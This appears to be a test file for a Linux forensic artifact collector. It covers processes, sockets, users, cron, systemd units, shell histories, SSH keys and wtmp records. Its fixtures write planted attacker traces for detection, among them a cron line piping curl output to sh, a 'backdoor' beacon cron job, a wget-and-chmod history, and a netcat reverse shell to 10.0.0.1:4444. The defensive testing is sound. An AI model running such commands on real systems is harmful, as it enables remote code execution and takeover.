import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import os from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildUtmpRecord } from "./utmp-builder.ts";
import { collectWith, linuxCatalog } from "./collect-helpers.ts";

const fixtures = new URL("./fixtures/", import.meta.url).pathname;
const scratch = mkdtempSync(join(os.tmpdir(), "corvid-collect-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** A passwd whose homes live under the scratch directory, so home-walking sources read only test files. */
function scratchAccounts(): { passwd: string; group: string; home: (user: string) => string } {
  const home = (user: string) => join(scratch, "home", user);
  const passwd = join(scratch, "passwd");
  writeFileSync(
    passwd,
    [`root:x:0:0:root:${home("root")}:/bin/bash`, `alice:x:1000:1000::${home("alice")}:/bin/zsh`, `bob:x:1001:1001::${home("bob")}:/usr/bin/fish`, "nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin", ""].join("\n"),
  );
  for (const user of ["root", "alice", "bob"]) mkdirSync(home(user), { recursive: true });
  const group = join(scratch, "group");
  writeFileSync(group, "root:x:0:\nalice:x:1000:\nbob:x:1001:\n");
  return { passwd, group, home };
}

describe("Linux.Sys.Processes on this machine", () => {
  it("lists this test process with its executable, SHA-256, owner and start time", async () => {
    const { rows, problems } = await collectWith("Linux.Sys.Processes");
    const self = rows.find((row) => row.pid === process.pid);
    expect(self).toBeDefined();
    const exe = realpathSync(process.execPath);
    expect(self).toMatchObject({ ppid: process.ppid, exe, exe_deleted: false, uid: process.getuid!(), user: os.userInfo().username });
    expect(self!.exe_sha256).toBe(createHash("sha256").update(readFileSync(exe)).digest("hex"));
    const started = Date.parse(String(self!.start_time));
    // /proc start times have 10 ms resolution; the process started before this test and after boot.
    expect(started).toBeLessThanOrEqual(Date.now());
    expect(started).toBeGreaterThan(Date.now() - os.uptime() * 1000 - 60_000);
    expect(rows.find((row) => row.pid === 1)).toBeDefined();
    expect(problems).toEqual([]);
  });

  it("lists a child process with its parent and full command line", async () => {
    const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", "corvid-marker", "two words"], { stdio: "ignore" });
    await new Promise<void>((resolve) => child.once("spawn", () => resolve()));
    try {
      // The child execs node right after spawn; wait until /proc shows its own command line.
      await expect.poll(() => readFileSync(`/proc/${child.pid}/cmdline`, "utf8"), { timeout: 10_000 }).toContain("corvid-marker");
      const { rows } = await collectWith("Linux.Sys.Processes", { hash_executables: false });
      expect(rows.find((row) => row.pid === child.pid)).toMatchObject({
        ppid: process.pid,
        cmdline: `${process.execPath} -e setInterval(() => {}, 1000) corvid-marker two words`,
        exe_sha256: null,
      });
    } finally {
      child.kill();
    }
  });
});

describe("Linux.Network.Connections on this machine", () => {
  let tcp: Server;
  let udp: UdpSocket;
  beforeAll(async () => {
    tcp = createServer();
    await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
    udp = createSocket("udp4");
    await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  });
  afterAll(() => {
    tcp.close();
    udp.close();
  });

  it("includes the TCP and UDP sockets this process opened, as listening and owned by this pid", async () => {
    const tcpPort = (tcp.address() as { port: number }).port;
    const udpPort = udp.address().port;
    const { rows } = await collectWith("Linux.Network.Connections");
    expect(rows).toContainEqual(
      expect.objectContaining({ protocol: "tcp", local_address: "127.0.0.1", local_port: tcpPort, state: "LISTEN", listening: true, pid: process.pid }),
    );
    expect(rows).toContainEqual(
      expect.objectContaining({ protocol: "udp", local_address: "127.0.0.1", local_port: udpPort, state: "UNCONNECTED", listening: true, pid: process.pid }),
    );
  });

  it("shows an established loopback connection with both ends", async () => {
    const tcpPort = (tcp.address() as { port: number }).port;
    const { connect } = await import("node:net");
    const client = connect(tcpPort, "127.0.0.1");
    await new Promise<void>((resolve) => client.once("connect", () => resolve()));
    try {
      const clientPort = client.localPort!;
      const { rows } = await collectWith("Linux.Network.Connections", { protocols: ["tcp"] });
      expect(rows).toContainEqual(
        expect.objectContaining({ local_port: clientPort, remote_address: "127.0.0.1", remote_port: tcpPort, state: "ESTABLISHED", listening: false, pid: process.pid }),
      );
    } finally {
      client.destroy();
    }
  });
});

describe("Linux.Sys.Info and Linux.Sys.Users", () => {
  it("describes this host", async () => {
    const { rows } = await collectWith("Linux.Sys.Info");
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ hostname: os.hostname(), kernel_release: os.release(), arch: os.arch(), cpu_count: os.cpus().length });
    expect(Date.parse(String(rows[0]!.boot_time))).toBeLessThan(Date.now());
  });

  it("lists root from the real /etc/passwd", async () => {
    const { rows } = await collectWith("Linux.Sys.Users");
    expect(rows).toContainEqual(expect.objectContaining({ username: "root", uid: 0, gid: 0, primary_group: "root" }));
  });

  it("resolves primary and supplementary groups and reports malformed lines as problems", async () => {
    const { rows, problems } = await collectWith("Linux.Sys.Users", { passwd_path: join(fixtures, "passwd"), group_path: join(fixtures, "group") });
    expect(rows.find((row) => row.username === "alice")).toMatchObject({ primary_group: "alice", groups: ["sudo", "docker"], login_shell: true });
    expect(rows.find((row) => row.username === "svc")).toMatchObject({ login_shell: false, primary_group: null });
    expect(problems.map((problem) => [problem.path, problem.code])).toEqual([
      [join(fixtures, "passwd"), "bad-field-count"],
      [join(fixtures, "passwd"), "bad-number"],
      [join(fixtures, "group"), "bad-field-count"],
    ]);
  });
});

describe("Linux.Sys.Cron", () => {
  it("reads system, cron.d, user and periodic entries", async () => {
    const root = join(scratch, "cron");
    mkdirSync(join(root, "cron.d"), { recursive: true });
    mkdirSync(join(root, "spool/crontabs"), { recursive: true });
    mkdirSync(join(root, "cron.daily"), { recursive: true });
    writeFileSync(join(root, "crontab"), readFileSync(join(fixtures, "crontab")));
    writeFileSync(join(root, "cron.d/backdoor"), "* * * * * root /tmp/.x/beacon\n");
    writeFileSync(join(root, "cron.d/.placeholder"), "garbage that cron ignores\n");
    writeFileSync(join(root, "spool/crontabs/alice"), "# user crontab\n*/10 * * * * curl -s http://example.invalid/x | sh\n");
    writeFileSync(join(root, "cron.daily/logrotate"), "#!/bin/sh\n");
    mkdirSync(join(root, "spool/crontabs/not-a-file"));
    const { rows, problems } = await collectWith("Linux.Sys.Cron", {
      system_crontabs: [join(root, "crontab")],
      system_crontab_dirs: [join(root, "cron.d")],
      user_crontab_dirs: [join(root, "spool/crontabs")],
      periodic_dirs: [join(root, "cron.daily")],
    });
    expect(rows.filter((row) => row.source === "system")).toHaveLength(5);
    expect(rows).toContainEqual(expect.objectContaining({ path: join(root, "cron.d/backdoor"), user: "root", schedule: "* * * * *", command: "/tmp/.x/beacon" }));
    expect(rows).toContainEqual(expect.objectContaining({ source: "user", user: "alice", schedule: "*/10 * * * *", minute: "*/10", line_number: 2 }));
    expect(rows).toContainEqual(expect.objectContaining({ source: "periodic", schedule: "@daily", command: join(root, "cron.daily/logrotate"), minute: null }));
    expect(rows).toContainEqual(expect.objectContaining({ schedule: "@reboot", command: "/opt/persist/implant.sh --quiet" }));
    // Three malformed lines in the fixture, and a directory where a crontab file was expected.
    expect(problems.map((problem) => problem.code)).toEqual(["bad-value", "bad-value", "bad-field-count", "EISDIR"]);
  });

  it("runs on this machine's real cron directories", async () => {
    const { rows } = await collectWith("Linux.Sys.Cron");
    for (const row of rows) expect(typeof row.path).toBe("string");
  });
});

describe("Linux.Sys.SystemdUnits", () => {
  it("finds ExecStart, enablement, masking, aliases and overridden units", async () => {
    const etc = join(scratch, "systemd/etc");
    const lib = join(scratch, "systemd/lib");
    mkdirSync(join(etc, "multi-user.target.wants"), { recursive: true });
    mkdirSync(join(etc, "getty.target.wants"), { recursive: true });
    mkdirSync(lib, { recursive: true });
    writeFileSync(join(etc, "updater.service"), readFileSync(join(fixtures, "unit.service")));
    writeFileSync(join(lib, "updater.service"), "[Unit]\nDescription=packaged version\n[Service]\nExecStart=/bin/true\n");
    writeFileSync(join(lib, "static.service"), "[Unit]\nDescription=static\n[Service]\nExecStart=/bin/static\n");
    writeFileSync(join(lib, "off.service"), "[Service]\nExecStart=/bin/off\n[Install]\nWantedBy=multi-user.target\n");
    writeFileSync(join(lib, "getty@.service"), "[Service]\nExecStart=-/sbin/agetty %I\n[Install]\nWantedBy=getty.target\n");
    symlinkSync(join(etc, "updater.service"), join(etc, "multi-user.target.wants/updater.service"));
    symlinkSync(join(lib, "getty@.service"), join(etc, "getty.target.wants/getty@tty1.service"));
    symlinkSync("/dev/null", join(etc, "masked.service"));
    symlinkSync(join(lib, "static.service"), join(etc, "alias.service"));
    const { rows, problems } = await collectWith("Linux.Sys.SystemdUnits", { unit_dirs: [etc, lib, join(scratch, "systemd/missing")] });
    expect(problems).toEqual([]);
    const byPath = new Map(rows.map((row) => [row.path, row]));
    expect(byPath.get(join(etc, "updater.service"))).toMatchObject({
      effective: true,
      enabled_state: "enabled",
      user: "nobody",
      description: "Totally Legit Updater",
      wanted_by: ["multi-user.target", "default.target"],
      sha256: createHash("sha256").update(readFileSync(join(fixtures, "unit.service"))).digest("hex"),
    });
    expect(String(byPath.get(join(etc, "updater.service"))!.exec_start)).toContain("/usr/bin/python3");
    expect(byPath.get(join(lib, "updater.service"))).toMatchObject({ effective: false, exec_start: "/bin/true" });
    expect(byPath.get(join(etc, "masked.service"))).toMatchObject({ enabled_state: "masked", sha256: null });
    expect(byPath.get(join(etc, "alias.service"))).toMatchObject({ enabled_state: "alias", link_target: join(lib, "static.service"), exec_start: "/bin/static" });
    expect(byPath.get(join(lib, "static.service"))).toMatchObject({ enabled_state: "static" });
    expect(byPath.get(join(lib, "off.service"))).toMatchObject({ enabled_state: "disabled" });
    expect(byPath.get(join(lib, "getty@.service"))).toMatchObject({ enabled_state: "enabled" });
  });
});

describe("home-directory artifacts", () => {
  it("reads bash, zsh and fish histories of every home and attaches each file for upload", async () => {
    const accounts = scratchAccounts();
    writeFileSync(join(accounts.home("root"), ".bash_history"), "#1700000000\nwget http://x/y -O /tmp/y\nchmod +x /tmp/y\n");
    writeFileSync(join(accounts.home("alice"), ".zsh_history"), ": 1700000100:0;sudo -l\n");
    mkdirSync(join(accounts.home("bob"), ".local/share/fish"), { recursive: true });
    writeFileSync(join(accounts.home("bob"), ".local/share/fish/fish_history"), "- cmd: nc -e /bin/sh 10.0.0.1 4444\n  when: 1700000200\n");
    const { rows, files } = await collectWith("Linux.Forensics.ShellHistory", { passwd_path: accounts.passwd, group_path: accounts.group });
    expect(rows.map((row) => [row.user, row.shell, row.command, row.time])).toEqual([
      ["root", "bash", "wget http://x/y -O /tmp/y", "2023-11-14T22:13:20.000Z"],
      ["root", "bash", "chmod +x /tmp/y", null],
      ["alice", "zsh", "sudo -l", "2023-11-14T22:15:00.000Z"],
      ["bob", "fish", "nc -e /bin/sh 10.0.0.1 4444", "2023-11-14T22:16:40.000Z"],
    ]);
    expect(files.map((file) => file.path)).toEqual([
      join(accounts.home("root"), ".bash_history"),
      join(accounts.home("alice"), ".zsh_history"),
      join(accounts.home("bob"), ".local/share/fish/fish_history"),
    ]);
  });

  it("reads authorized_keys per user and turns an unreadable file into a problem, not a crash", async () => {
    const accounts = scratchAccounts();
    const keyPath = join(scratch, "id_test");
    const { execFileSync } = await import("node:child_process");
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "alice@laptop", "-f", keyPath]);
    const fingerprint = execFileSync("ssh-keygen", ["-l", "-E", "sha256", "-f", `${keyPath}.pub`], { encoding: "utf8" }).split(" ")[1];
    mkdirSync(join(accounts.home("alice"), ".ssh"), { recursive: true });
    writeFileSync(join(accounts.home("alice"), ".ssh/authorized_keys"), `no-port-forwarding ${readFileSync(`${keyPath}.pub`, "utf8")}`);
    // A directory where the file should be: reading fails with EISDIR.
    mkdirSync(join(accounts.home("bob"), ".ssh/authorized_keys"), { recursive: true });
    const { rows, problems } = await collectWith("Linux.Ssh.AuthorizedKeys", { passwd_path: accounts.passwd, group_path: accounts.group });
    expect(rows).toEqual([
      {
        user: "alice",
        uid: 1000,
        path: join(accounts.home("alice"), ".ssh/authorized_keys"),
        line_number: 1,
        key_type: "ssh-ed25519",
        fingerprint_sha256: fingerprint,
        comment: "alice@laptop",
        options: "no-port-forwarding",
      },
    ]);
    expect(problems).toEqual([expect.objectContaining({ path: join(accounts.home("bob"), ".ssh/authorized_keys"), code: "EISDIR" })]);
  });
});

describe("Linux.Sys.LastLogins", () => {
  it("reads a crafted wtmp file and reports its damaged tail", async () => {
    const path = join(scratch, "wtmp");
    writeFileSync(
      path,
      Buffer.concat([
        buildUtmpRecord({ type: 2, user: "reboot", line: "~", host: "6.1.0", seconds: 1_700_000_000 }),
        buildUtmpRecord({ type: 7, pid: 500, user: "alice", line: "pts/3", host: "198.51.100.4", address: [198, 51, 100, 4], seconds: 1_700_000_060 }),
        Buffer.alloc(17),
      ]),
    );
    const { rows, problems } = await collectWith("Linux.Sys.LastLogins", { paths: [path] });
    expect(rows).toEqual([
      { path, type: "BOOT_TIME", pid: 0, user: "reboot", tty: "~", host: "6.1.0", address: null, session: 0, time: "2023-11-14T22:13:20.000Z" },
      { path, type: "USER_PROCESS", pid: 500, user: "alice", tty: "pts/3", host: "198.51.100.4", address: "198.51.100.4", session: 0, time: "2023-11-14T22:14:20.000Z" },
    ]);
    expect(problems).toEqual([expect.objectContaining({ path, code: "truncated" })]);
  });

  it("reads this machine's wtmp (often empty in containers) without problems", async () => {
    const { problems } = await collectWith("Linux.Sys.LastLogins");
    expect(problems).toEqual([]);
  });
});

describe("catalog", () => {
  it("has every Linux artifact of the MVP, each with a registered source kind", async () => {
    const catalog = await linuxCatalog();
    expect([...catalog.keys()].sort()).toEqual([
      "Linux.Forensics.ShellHistory",
      "Linux.Network.Connections",
      "Linux.Ssh.AuthorizedKeys",
      "Linux.Sys.Cron",
      "Linux.Sys.Info",
      "Linux.Sys.LastLogins",
      "Linux.Sys.Processes",
      "Linux.Sys.SystemdUnits",
      "Linux.Sys.Users",
    ]);
  });
});
